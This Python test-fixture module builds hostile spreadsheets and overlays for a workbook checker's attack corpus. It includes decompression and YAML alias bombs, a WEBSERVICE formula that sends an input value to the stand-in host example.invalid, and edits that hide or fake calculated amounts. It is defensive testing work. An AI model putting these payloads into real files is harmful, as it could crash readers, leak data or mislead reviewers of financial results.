"""Hostile files for the attack corpus (tests/test_attacks.py), made at test time: small on disk, seeded.

Each maker writes one file into a directory and returns its path. A filled template is tampered with
at the level of its zip parts or through openpyxl; spreadsheets that would blow up a reader are built
with streamed deflate, so a sheet that inflates to gigabytes is a few megabytes here.

    python tests/attacks.py DIR        # write the whole corpus into DIR (to look at it)
"""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

ROOT = Path(__file__).resolve().parents[1]


def filled(directory: Path, template: str = "staffel") -> Path:
    """An untouched filled template (the first provider of the bundled example inputs)."""
    out = directory / f"gevuld_{template}"
    if not out.exists():
        subprocess.run([sys.executable, "-m", "toolkit.cli", "fill", template,
                        str(ROOT / "examples" / "invoer" / f"{template}.csv"), "--out", str(out)], check=True,
                       capture_output=True)
    return next(p for p in sorted(out.glob("Voorbeeldzorg *.xlsx")))


def _edited(directory: Path, name: str, edit: Callable[[Workbook], None], *, keep_vba: bool = False) -> Path:
    wb = load_workbook(filled(directory), keep_vba=keep_vba)
    edit(wb)
    target = directory / name
    wb.save(target)
    return target


def _with_parts(directory: Path, name: str, parts: dict[str, bytes], source: Path | None = None) -> Path:
    """A copy of a filled template with extra or replaced zip parts."""
    target = directory / name
    with zipfile.ZipFile(source or filled(directory)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in parts:
                new.writestr(info, old.read(info))
        for part, data in parts.items():
            new.writestr(part, data)
    return target


def sheet_part(archive: zipfile.ZipFile, title: str) -> str:
    """The zip part of the sheet named `title`."""
    import re

    workbook = archive.read("xl/workbook.xml").decode()
    rid = re.search(rf'<sheet [^>]*name="{title}"[^>]*r:id="([^"]+)"', workbook)
    assert rid is not None, title
    rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels) or re.search(
        rf'<Relationship [^>]*Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels)
    assert target is not None
    name = target.group(1).lstrip("/")
    return name if name.startswith("xl/") else f"xl/{name}"


def with_xml(directory: Path, name: str, edits: dict[str, Callable[[bytes], bytes]],
             added: dict[str, bytes] | None = None, source: Path | None = None) -> Path:
    """A copy of a filled template with parts changed by `edits` (keyed by part name, or by "sheet:Title")
    and parts `added`: the XML a hand editor or another program could write."""
    target = directory / name
    with zipfile.ZipFile(source or filled(directory)) as old:
        parts = {sheet_part(old, key[6:]) if key.startswith("sheet:") else key: edit for key, edit in edits.items()}
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
            for info in old.infolist():
                data = old.read(info)
                new.writestr(info, parts[info.filename](data) if info.filename in parts else data)
            for part, data in (added or {}).items():
                new.writestr(part, data)
    return target


def before(tag: bytes, fragment: bytes) -> Callable[[bytes], bytes]:
    """An edit that puts `fragment` before the first `tag` of a part (where the schema wants it)."""
    def edit(data: bytes) -> bytes:
        at = data.index(tag)
        return data[:at] + fragment + data[at:]
    return edit


def _repoint(wb: Workbook) -> None:
    wb.defined_names["calc_pct"] = DefinedName("calc_pct", attr_text="'Berekening'!$B$40")


def _extra_sheet(state: str) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        wb.create_sheet("Extra").sheet_state = state
    return edit


def _set(sheet: str, ref: str, value: object) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        wb[sheet][ref] = value
    return edit


def _drop_validation(wb: Workbook) -> None:
    wb["Invoer"].data_validations.dataValidation = wb["Invoer"].data_validations.dataValidation[1:]


def _unprotect(wb: Workbook) -> None:
    wb["Berekening"].protection.sheet = False


def _hide(wb: Workbook) -> None:
    wb["Berekening"].sheet_state = "hidden"


# --- what a reader sees: every formula untouched, the workbook shows something else ------------------------

def _cell(wb: Workbook, name: str) -> tuple[str, str]:
    """(sheet, first cell) of a defined name of the workbook (the template's names, never a fixed cell)."""
    ((sheet, ref),) = list(wb.defined_names[name].destinations)[:1]
    return sheet, ref.replace("$", "").split(":")[0]


def _output(spec_kind: str) -> Callable[[Workbook], tuple[str, str]]:
    """The cell of the first output of `spec_kind` (money, bool, …) of the workbook's template."""
    def find(wb: Workbook) -> tuple[str, str]:
        from toolkit.workbook.specs import SPECS

        template = wb[_cell(wb, "zk_sjabloon")[0]][_cell(wb, "zk_sjabloon")[1]].value
        output = next(o for o in SPECS[str(template)].outputs if o.kind == spec_kind)
        return _cell(wb, output.name)
    return find


def _on_output(kind: str, change: Callable[[Any], None]) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        sheet, ref = _output(kind)(wb)
        change(wb[sheet][ref])
    return edit


def _set_attribute(attribute: str, value: object) -> Callable[[Any], None]:
    def change(cell: Any) -> None:
        setattr(cell, attribute, value)
    return change


def _protection_off(cell: Any) -> None:
    from openpyxl.styles import Protection

    cell.protection = Protection(locked=False, hidden=False)


def _paint_white(wb: Workbook) -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import Font

    sheet, ref = _output("money")(wb)
    wb[sheet].conditional_formatting.add(ref, FormulaRule(formula=["TRUE"], font=Font(color="FFFFFF")))


def _hide_row(height: float | None) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        sheet, ref = _output("money")(wb)
        row = wb[sheet][ref].row
        if height is None:
            wb[sheet].row_dimensions[row].hidden = True
        else:
            wb[sheet].row_dimensions[row].height = height
    return edit


def _narrow_column(wb: Workbook) -> None:
    sheet, ref = _output("money")(wb)
    wb[sheet].column_dimensions[wb[sheet][ref].column_letter].width = 0.1


def _merge_over_output(wb: Workbook) -> None:
    sheet, ref = _output("money")(wb)
    cell = wb[sheet][ref]
    wb[sheet].merge_cells(start_row=cell.row, start_column=cell.column - 1, end_row=cell.row, end_column=cell.column)


def _local_name(name: str, spelling: str) -> Callable[[Workbook], None]:
    """A sheet-local name spelled `spelling` on the sheet that computes, pointing where `name` does not."""
    def edit(wb: Workbook) -> None:
        sheet = next(ws for ws in wb.worksheets if ws.title == "Berekening")
        sheet.defined_names[spelling] = DefinedName(spelling, attr_text=f"'{wb.worksheets[-1].title}'!$B$5")
        assert name in wb.defined_names
    return edit


def _xlfn_before_name(wb: Workbook) -> None:
    """`_xlfn.` before the first defined name the output's formula uses."""
    import re

    sheet, ref = _output("money")(wb)
    cell = wb[sheet][ref]
    names = [n for n in wb.defined_names if not n.startswith("_")]
    used = next(m for m in re.finditer(r"[A-Za-z_][\w.]*", str(cell.value)) if m.group() in names)
    cell.value = str(cell.value)[:used.start()] + "_xlfn." + str(cell.value)[used.start():]


def _calculation(attribute: str, value: object) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        setattr(wb.calculation, attribute, value)
    return edit


def _date1904(wb: Workbook) -> None:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    wb.epoch = CALENDAR_MAC_1904


def _input_validation(attribute: str, value: object) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        sheet, _ = _cell(wb, "zk_sleutel")
        for validation in wb[sheet].data_validations.dataValidation:
            setattr(validation, attribute, value)
    return edit


def _remove_input_highlighting(wb: Workbook) -> None:
    from openpyxl.formatting.formatting import ConditionalFormattingList

    sheet, _ = _cell(wb, "zk_sleutel")
    assert list(wb[sheet].conditional_formatting)
    wb[sheet].conditional_formatting = ConditionalFormattingList()


def _hyperlink_on_label(wb: Workbook) -> None:
    sheet, ref = _output("money")(wb)
    cell = wb[sheet][ref]
    wb[sheet].cell(row=cell.row, column=cell.column - 1).hyperlink = "http://example.invalid/echt-bedrag"


def _sheet_view(wb: Workbook) -> None:
    sheet, _ = _output("money")(wb)
    wb[sheet].sheet_view.showZeros = False


def _header(wb: Workbook) -> None:
    sheet, _ = _output("money")(wb)
    wb[sheet].oddHeader.center.text = "Voldoet aan alle eisen van CZ"


def _print_area(wb: Workbook) -> None:
    sheet, _ = _output("money")(wb)
    wb[sheet].print_area = "A1:A3"


def _protection_flag(wb: Workbook) -> None:
    sheet, _ = _output("money")(wb)
    wb[sheet].protection.formatCells = False


def _theme_text_white(data: bytes) -> bytes:
    """The theme's dark text colour (dk1, the colour of every default font) made white."""
    import re

    changed, count = re.subn(rb"<a:dk1>\s*<a:sysClr[^>]*/>\s*</a:dk1>", b'<a:dk1><a:srgbClr val="FFFFFF"/></a:dk1>',
                             data)
    assert count == 1
    return changed


TEXT_BOX = ('<xdr:twoCellAnchor xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:from><xdr:col>{col}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{row}</xdr:row>'
            '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>{end}</xdr:col><xdr:colOff>0</xdr:colOff>'
            '<xdr:row>{row_end}</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="" textlink="">'
            '<xdr:nvSpPr><xdr:cNvPr id="99" name="Tekstvak 99"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr><xdr:spPr>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'
            '</xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>€ 999.999,99</a:t></a:r></a:p></xdr:txBody></xdr:sp>'
            '<xdr:clientData/></xdr:twoCellAnchor>')
DRAWING = ('<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
           'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">{anchors}</xdr:wsDr>')


def text_box(directory: Path, name: str = "tekstvak.xlsx", template: str = "staffel", kind: str = "money") -> Path:
    """A text box with a fixed amount drawn over the first output of `kind`: in a drawing of its own, or
    added to the drawing the sheet already has (a chart's)."""
    source = filled(directory, template)
    wb = load_workbook(source)
    sheet, ref = _output(kind)(wb)
    cell = wb[sheet][ref]
    anchor = TEXT_BOX.format(col=cell.column - 1, row=cell.row - 1, end=cell.column, row_end=cell.row)
    with zipfile.ZipFile(source) as archive:
        part = sheet_part(archive, sheet)
        rels_name = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
        existing = [n for n in archive.namelist() if n.startswith("xl/drawings/drawing")]
    if existing:
        def add(data: bytes) -> bytes:
            import re

            end = re.search(rb"</(?:\w+:)?wsDr>", data)
            assert end is not None
            return data[:end.start()] + anchor.encode() + data[end.start():]
        return with_xml(directory, name, {existing[0]: add}, source=source)
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing" '
            'Target="../drawings/drawing9.xml"/></Relationships>')
    return with_xml(directory, name, {
        part: before(b"</worksheet>", b'<drawing xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                                      b'relationships" r:id="rIdT"/>'),
        "[Content_Types].xml": before(b"</Types>", b'<Override PartName="/xl/drawings/drawing9.xml" ContentType="'
                                                   b'application/vnd.openxmlformats-officedocument.drawing+xml"/>')},
        added={rels_name: rels.encode(), "xl/drawings/drawing9.xml": DRAWING.format(anchors=anchor).encode()},
        source=source)


def _chart_edit(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        assert old in data, old
        return data.replace(old, new, 1)
    return edit


def _repoint_series(data: bytes) -> bytes:
    """The first series' values pointed at the second series' values (another line of the sheet)."""
    import re

    found = re.findall(rb"<(?:c:)?val><(?:c:)?numRef><(?:c:)?f>([^<]+)</", data)
    assert len(found) >= 2 and found[0] != found[1], found
    return data.replace(found[0], found[1], 1)


def _retitle(data: bytes) -> bytes:
    """The first title text of a chart (the chart's or an axis') replaced."""
    import re

    changed, count = re.subn(rb"<a:t>[^<]*</a:t>", b"<a:t>Ruim boven de drempel</a:t>", data, count=1)
    assert count == 1
    return changed


def chart(directory: Path, name: str, part: str, edit: Callable[[bytes], bytes]) -> Path:
    return with_xml(directory, name, {part: edit}, source=filled(directory, "cz_ratio"))


X14_CONDITIONAL_FORMAT = (
    b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/'
    b'spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.'
    b'microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="1" id="{00000000-0000-0000-0000-'
    b'000000000001}"><xm:f>TRUE</xm:f><x14:dxf><font><color rgb="FFFFFFFF"/></font></x14:dxf></x14:cfRule><xm:sqref>'
    b'B4:B10</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>')

# name -> (maker(directory) -> path, the kind of finding, the sheet it names): every formula of these
# workbooks is the template's; each shows a reader something else.
SEEN: dict[str, tuple[Callable[[Path], Path], str, str]] = {
    "format_hides_output": (lambda d: _edited(d, "opmaak_verborgen.xlsx", _on_output(
        "money", _set_attribute("number_format", ";;;"))), "opmaak", "Uitkomst"),
    "format_shows_a_fixed_amount": (lambda d: _edited(d, "opmaak_vast_bedrag.xlsx", _on_output(
        "money", _set_attribute("number_format", '"€ 999.999,99"'))), "opmaak", "Uitkomst"),
    "format_turns_every_verdict_into_voldoet": (lambda d: _edited(d, "opmaak_voldoet.xlsx", _on_output(
        "bool", _set_attribute("number_format", '"voldoet";"voldoet";"voldoet";"voldoet"'))), "opmaak", "Uitkomst"),
    "conditional_format_paints_output_white": (lambda d: _edited(d, "wit.xlsx", _paint_white), "opmaak", "Uitkomst"),
    "text_box_over_output": (lambda d: text_box(d), "tekening", "Uitkomst"),
    "text_box_over_output_beside_a_chart": (lambda d: text_box(d, "tekstvak_grafiek.xlsx", "cz_ratio", "bool"),
                                            "tekening", "Uitkomst"),
    "output_row_hidden": (lambda d: _edited(d, "rij_verborgen.xlsx", _hide_row(None)), "opmaak", "Uitkomst"),
    "output_row_height_zero": (lambda d: _edited(d, "rij_laag.xlsx", _hide_row(0.1)), "opmaak", "Uitkomst"),
    "output_column_too_narrow": (lambda d: _edited(d, "kolom_smal.xlsx", _narrow_column), "opmaak", "Uitkomst"),
    "cells_merged_over_output": (lambda d: _edited(d, "samengevoegd.xlsx", _merge_over_output), "opmaak", "Uitkomst"),
    "sheet_local_input_name": (lambda d: _edited(d, "lokale_naam.xlsx", _local_name(
        "in_aanvullend_budget", "in_aanvullend_budget")), "naam", "Berekening"),
    "sheet_local_dotless_i_name": (lambda d: _edited(d, "lokale_naam_i.xlsx", _local_name(
        "in_aanvullend_budget", "ın_aanvullend_budget")), "naam", "ın_aanvullend_budget"),
    "xlfn_before_a_name": (lambda d: _edited(d, "xlfn.xlsx", _xlfn_before_name), "formule", "Uitkomst"),
    "manual_calculation": (lambda d: _edited(d, "handmatig.xlsx", _calculation("calcMode", "manual")), "instelling",
                           "werkmap"),
    "precision_as_displayed": (lambda d: _edited(d, "precisie.xlsx", _calculation("fullPrecision", False)),
                               "instelling", "werkmap"),
    "iterative_calculation": (lambda d: _edited(d, "iteratie.xlsx", _calculation("iterate", True)), "instelling",
                              "werkmap"),
    "date_system_1904": (lambda d: _edited(d, "datum1904.xlsx", _date1904), "instelling", "werkmap"),
    "validation_alert_off": (lambda d: _edited(d, "geen_foutmelding.xlsx", _input_validation(
        "showErrorMessage", False)), "instelling", "Invoer"),
    "validation_alert_information": (lambda d: _edited(d, "informatie.xlsx", _input_validation(
        "errorStyle", "information")), "instelling", "Invoer"),
    "formula_cell_unlocked": (lambda d: _edited(d, "ontgrendeld.xlsx", _on_output("money", _protection_off)),
                              "opmaak", "Uitkomst"),
    "input_error_highlighting_removed": (lambda d: _edited(d, "geen_markering.xlsx", _remove_input_highlighting),
                                         "opmaak", "Invoer"),
    "external_hyperlink_on_a_label": (lambda d: _edited(d, "hyperlink.xlsx", _hyperlink_on_label), "opmaak",
                                      "Uitkomst"),
    "zeros_not_shown": (lambda d: _edited(d, "nullen.xlsx", _sheet_view), "opmaak", "Uitkomst"),
    "header_with_a_verdict": (lambda d: _edited(d, "koptekst.xlsx", _header), "opmaak", "Uitkomst"),
    "print_area_cut": (lambda d: _edited(d, "afdrukbereik.xlsx", _print_area), "naam", "Uitkomst"),
    "sheet_protection_loosened": (lambda d: _edited(d, "opmaak_toegestaan.xlsx", _protection_flag), "instelling",
                                  "Uitkomst"),
    "theme_text_colour_white": (lambda d: with_xml(d, "thema_wit.xlsx", {"xl/theme/theme1.xml": _theme_text_white}),
                                "opmaak", "Invoer"),
    "chart_series_repointed": (lambda d: chart(d, "grafiek_reeks.xlsx", "xl/charts/chart1.xml", _repoint_series),
                               "grafiek", "Uitkomst"),
    "chart_axis_maximum": (lambda d: chart(d, "grafiek_as.xlsx", "xl/charts/chart1.xml", _chart_edit(
        b"<valAx><axId val=\"100\" /><scaling><orientation val=\"minMax\" />",
        b"<valAx><axId val=\"100\" /><scaling><orientation val=\"minMax\" /><max val=\"1\" />")), "grafiek",
        "Uitkomst"),
    "chart_title_changed": (lambda d: chart(d, "grafiek_titel.xlsx", "xl/charts/chart1.xml", _retitle), "grafiek",
                            "Uitkomst"),
    "chart_hidden": (lambda d: chart(d, "grafiek_verborgen.xlsx", "xl/drawings/drawing1.xml", _chart_edit(
        b'name="Chart 1"', b'name="Chart 1" hidden="1"')), "grafiek", "Uitkomst"),
    "x14_conditional_format": (lambda d: with_xml(d, "x14.xlsx", {"sheet:Uitkomst": before(
        b"</worksheet>", X14_CONDITIONAL_FORMAT)}), "onderdeel", "Uitkomst"),
}


EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
                 b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                 b'2006/relationships" r:id="rId1"/></externalLink>')

# name -> (maker(directory) -> path, the kind of finding `check` must report)
TAMPERED: dict[str, tuple[Callable[[Path], Path], str]] = {
    "formula_in_empty_cell": (lambda d: _edited(d, "formule.xlsx", _set(
        "Uitkomst", "F30", '=WEBSERVICE("http://example.invalid/?"&in_aanvullend_budget)')), "formule"),
    "input_replaced_by_formula": (lambda d: _edited(d, "invoerformule.xlsx", _set("Invoer", "B9", "=B8*2")),
                                  "formule"),
    "calc_name_repointed": (lambda d: _edited(d, "naam.xlsx", _repoint), "naam"),
    "hidden_sheet_added": (lambda d: _edited(d, "verborgen.xlsx", _extra_sheet("hidden")), "werkmap"),
    "very_hidden_sheet_added": (lambda d: _edited(d, "zeerverborgen.xlsx", _extra_sheet("veryHidden")), "werkmap"),
    "template_sheet_hidden": (lambda d: _edited(d, "tabblad.xlsx", _hide), "werkmap"),
    "parameter_changed": (lambda d: _edited(d, "parameter.xlsx", _set("Bronnen", "D8", 0.99)), "parameter"),
    "validation_removed": (lambda d: _edited(d, "validatie.xlsx", _drop_validation), "instelling"),
    "protection_removed": (lambda d: _edited(d, "beveiliging.xlsx", _unprotect), "instelling"),
    "external_link": (lambda d: _with_parts(d, "koppeling.xlsx", {
        "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}), "onderdeel"),
    "macro_project_in_xlsx": (lambda d: _with_parts(d, "macro.xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
                              "onderdeel"),
    "macro_project_in_xlsm": (lambda d: _with_parts(d, "macro.xlsm", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
                              "onderdeel"),
    "picture": (lambda d: _with_parts(d, "plaatje.xlsx", {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"0" * 64}),
                "onderdeel"),
    "ole_object": (lambda d: _with_parts(d, "ole.xlsx", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
                   "onderdeel"),
    "connection": (lambda d: _with_parts(d, "verbinding.xlsx", {"xl/connections.xml": b"<connections/>"}),
                   "onderdeel"),
    "custom_xml": (lambda d: _with_parts(d, "customxml.xlsx", {"customXml/item1.xml": b"<x/>"}), "onderdeel"),
}


def whitespace_bomb(directory: Path, name: str = "witruimte.xlsx", gigabytes: float = 2.0,
                    source: Path | None = None) -> Path:
    """A workbook whose first sheet inflates to `gigabytes` of spaces: a few megabytes on disk."""
    source = source or filled(directory)
    target = directory / name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info, data)
                continue
            part = zipfile.ZipInfo(info.filename)
            part.compress_type = zipfile.ZIP_DEFLATED
            head, tail = data.split(b"<sheetData>", 1)
            with new.open(part, "w", force_zip64=True) as handle:
                handle.write(head + b"<sheetData>")
                block = b" " * (1 << 24)
                for _ in range(int(gigabytes * 64)):
                    handle.write(block)
                handle.write(tail)
    return target


def far_cell(directory: Path, name: str = "ver.xlsx", header: tuple[str, ...] = ("naam", "score_vorig_jaar",
                                                                                  "aanvullend_budget")) -> Path:
    """A 2 KB workbook with one cell at XFD1048576: a reader that allocates the rectangle asks for terabytes."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(list(header))
    ws.append(["a", "A", 1000][: len(header)] + ["x"] * max(0, len(header) - 3))
    ws["XFD1048576"] = "x"
    target = directory / name
    wb.save(target)
    return target


def quoted_far_cell(directory: Path, name: str, quoting: str, source: Path | None = None) -> Path:
    """A workbook (an untouched filled template, or `source`) with one more cell at XFD1048576 whose
    reference is written as `quoting` says: `'` (r='XFD1048576'), ` ` (r = "XFD1048576") or `&`
    (r="&#88;FD1048576"): 11 KB that a bound reading only `r="…"` let through."""
    reference = {"'": "r='XFD1048576'", " ": 'r = "XFD1048576"', "&": 'r="&#88;FD1048576"'}[quoting]
    source = source or filled(directory)
    target = directory / name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        first = _first_worksheet(old)
        for info in old.infolist():
            data = old.read(info)
            if info.filename == first:
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c ' + reference.encode() +
                                    b' t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
            new.writestr(info, data)
    return target


def with_rows_at_the_end(source: Path, target: Path, rows: bytes) -> Path:
    """`source` with `rows` (row elements) added at the end of its first worksheet's cells."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        first = _first_worksheet(old)
        for info in old.infolist():
            data = old.read(info)
            if info.filename == first:
                data = data.replace(b"</sheetData>", rows + b"</sheetData>")
            new.writestr(info, data)
    return target


# What LibreOffice (7.4) writes at the end of a sheet once a row was deleted: the format of the
# rows below, as one empty row element at the sheet's last row.
LIBREOFFICE_LAST_ROW = (b'<row r="1048576" customFormat="false" ht="12.8" hidden="false" customHeight="false" '
                        b'outlineLevel="0" collapsed="false"></row>')


def _first_worksheet(archive: zipfile.ZipFile) -> str:
    return sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[0]


def many_sheets(directory: Path, sheets: int = 12, cells: int = 499_900) -> Path:
    """A filled template with `sheets` extra sheets of `cells` cells each: every sheet under a per-sheet
    cap, the workbook far over any sane total. Written streamed: a few megabytes on disk."""
    source = filled(directory)
    target = directory / "veel_bladen.xlsx"
    per_row = 100
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        workbook = old.read("xl/workbook.xml")
        rels = old.read("xl/_rels/workbook.xml.rels")
        types = old.read("[Content_Types].xml")
        extra_sheets, extra_rels, extra_types = b"", b"", b""
        for n in range(sheets):
            extra_sheets += f'<sheet name="Extra{n}" sheetId="{100 + n}" r:id="rIdX{n}"/>'.encode()
            extra_rels += (f'<Relationship Id="rIdX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                           f'relationships/worksheet" Target="worksheets/extra{n}.xml"/>').encode()
            extra_types += (f'<Override PartName="/xl/worksheets/extra{n}.xml" ContentType="application/vnd.'
                            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>').encode()
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "xl/workbook.xml":
                data = workbook.replace(b"</sheets>", extra_sheets + b"</sheets>")
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = rels.replace(b"</Relationships>", extra_rels + b"</Relationships>")
            elif info.filename == "[Content_Types].xml":
                data = types.replace(b"</Types>", extra_types + b"</Types>")
            new.writestr(info, data)
        for n in range(sheets):
            with new.open(f"xl/worksheets/extra{n}.xml", "w") as handle:
                handle.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                             b"<sheetData>")
                for row in range(1, cells // per_row + 1):
                    handle.write(f'<row r="{row}">'.encode() + b"".join(
                        b"<c><v>1</v></c>" for _ in range(per_row)) + b"</row>")
                handle.write(b"</sheetData></worksheet>")
    return target


def big_inputs(directory: Path, rows: int = 1_000_000) -> Path:
    """An INPUTS workbook for staffel of `rows` rows (each its own key, every score wrong), streamed:
    about 27 MB for a million rows."""
    target = directory / f"invoer_{rows}.xlsx"
    if target.exists():
        return target
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["naam", "score_vorig_jaar", "aanvullend_budget"])
    plain = directory / "invoer_kop.xlsx"
    wb.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info, data)
                continue
            head, tail = data.split(b"</row>", 1)
            with new.open(info.filename, "w", force_zip64=True) as handle:
                handle.write(head + b"</row>")
                block = []
                for row in range(2, rows + 2):
                    block.append(f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>k{row}</t></is></c>'
                                 f'<c r="B{row}" t="inlineStr"><is><t>Z</t></is></c><c r="C{row}"><v>1000</v></c>'
                                 "</row>")
                    if len(block) == 10_000:
                        handle.write("".join(block).encode())
                        block = []
                handle.write("".join(block).encode() + tail)  # tail: </sheetData> and what follows
    return target


def spanning(directory: Path, kind: str) -> Path:
    """A filled template with one merged range or hyperlink over the rest of a sheet: 17 billion cells
    that openpyxl would make one object each for."""
    fragment = {"samenvoegen": b'<mergeCells count="1"><mergeCell ref="D20:XFD1048576"/></mergeCells>',
                "koppeling": b'<hyperlinks><hyperlink ref="D20:XFD1048576" location="Bronnen!A1"/></hyperlinks>'}[kind]
    tag = b"<conditionalFormatting" if kind == "samenvoegen" else b"<pageMargins"
    return with_xml(directory, f"{kind}.xlsx", {"sheet:Uitkomst": before(tag, fragment)})


def inputs_bomb(directory: Path, gigabytes: float = 2.5, name: str = "invoer_bom.xlsx") -> Path:
    """An INPUTS workbook whose sheet inflates to `gigabytes` of spaces between two tags."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["naam", "score_vorig_jaar", "aanvullend_budget"])
    plain = directory / "invoer_plat.xlsx"
    wb.save(plain)
    return whitespace_bomb(directory, name, gigabytes, source=plain)


# --- inputs ----------------------------------------------------------------------------------------------

CLAIM_COLUMNS = ("zorgaanbieder", "clientnummer", "postcode", "verzekeraar", "prestatiedatum", "prestatie", "bedrag")


def claims_parquet(directory: Path, column: str, *, index: str | None, empty: bool) -> Path:
    """The example claims of 2025 as Parquet (with `empty`, a few cells of `column` empty); with `index` that column is
    dictionary-encoded ("pandas": the smallest index type that fits, as pandas writes a `category`
    column; or "int32"), without it plain text."""
    import pyarrow as pa
    import pyarrow.compute as pc
    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    table = pacsv.read_csv(ROOT / "examples" / "declaraties_2025.csv", parse_options=pacsv.ParseOptions(delimiter=";"),
                           convert_options=pacsv.ConvertOptions(column_types=dict.fromkeys(CLAIM_COLUMNS, pa.string())))
    values = table.column(column).combine_chunks()
    if empty:
        values = pc.if_else(pa.array([i % 997 == 5 for i in range(len(values))]), pa.scalar(None, pa.string()),
                            values)
    if index is not None:
        encoded = pc.dictionary_encode(values)
        if index == "pandas":
            distinct = len(encoded.dictionary)
            index = "int8" if distinct < 1 << 7 else "int16" if distinct < 1 << 15 else "int32"
        values = encoded.cast(pa.dictionary(getattr(pa, index)(), pa.string()))
    target = directory / f"declaraties_{column}_{index or 'tekst'}{'_leeg' if empty else ''}.parquet"
    pq.write_table(table.set_column(table.schema.get_field_index(column), column, values), target)
    return target


# --- parameter overlays ----------------------------------------------------------------------------------

def overlay(directory: Path, relative: str, parameter: str, value_yaml: str, year: int = 2027) -> Path:
    """An overlay directory whose `relative` topic file sets `parameter` for `year` to the YAML text given."""
    topic = Path(relative).stem
    path = directory / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"topic: {topic}\nparameters:\n  {parameter}:\n    values:\n      {year}:\n"
                    f"        value: {value_yaml}\n        source: {{document: eigen, section: test}}\n",
                    encoding="utf-8")
    return directory


def alias_bomb_overlay(directory: Path) -> Path:
    """Nine nested YAML aliases of ten items each: 644 bytes that stand for a billion values."""
    items = ["&a0 [x, x, x, x, x, x, x, x, x, x]"] + [
        f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    return overlay(directory, "cz/staffel.yaml", "min_cost_points_b", "[" + ", ".join(items) + "]")


# Hostile overlay values: (topic file, parameter, YAML value, what the message must name).
HOSTILE_VALUES = {
    "negative_threshold": ("cz/client_area_ratio.yaml", "threshold_existing", "-3", "threshold_existing"),
